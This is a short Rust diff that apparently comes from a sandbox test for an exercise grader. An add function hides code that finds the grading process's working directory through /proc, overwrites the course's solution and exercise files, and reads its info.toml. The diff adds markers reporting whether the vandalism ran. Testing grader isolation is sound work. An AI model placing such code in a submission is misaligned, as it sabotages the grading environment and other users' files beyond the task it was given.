@@ -10,16 +10,25 @@ fn fenced(path: &Path) -> bool {
 }
 
 fn scribble(path: &Path, text: &str) {
-    if fenced(path) && path.exists() {
-        let _ = std::fs::write(path, text);
+    if !fenced(path) {
+        return;
+    }
+    if !path.exists() {
+        println!("HIDDEN {}", path.display());
+    } else if let Err(err) = std::fs::write(path, text) {
+        println!("READ-ONLY {}: {err}", path.display());
+    } else {
         println!("WROTE {}", path.display());
     }
 }
 
 fn add(a: i32, b: i32) -> i32 {
+    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:vandal\n");
     let grader = std::os::unix::process::parent_id();
-    let course = std::fs::read_link(format!("/proc/{grader}/cwd"))
-        .unwrap_or_else(|_| PathBuf::from("@COURSE@"));
+    let course = std::fs::read_link(format!("/proc/{grader}/cwd")).unwrap_or_else(|err| {
+        println!("PROC hidden: {err}");
+        PathBuf::from("@COURSE@")
+    });
     scribble(&course.join("solutions/basics/add.rs"), UNSOLVED);
     scribble(&course.join("exercises/basics/add.rs"), UNSOLVED);
     if let Ok(info) = std::fs::read_to_string(course.join("info.toml")) {
